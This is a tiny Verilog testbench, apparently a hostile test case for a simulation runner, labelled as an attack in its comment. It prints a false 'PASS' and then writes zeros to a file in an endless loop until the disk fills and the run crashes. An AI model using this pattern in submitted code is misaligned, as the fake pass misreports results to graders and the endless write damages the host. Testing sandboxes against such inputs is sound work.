// run: simulate; ends: crash; attack: says PASS and fills one file
module tb;
  integer fd;
  initial begin
    $display("PASS");
    fd = $fopen("big", "w");
    forever $fwrite(fd, "%0512d", 0);
  end
endmodule
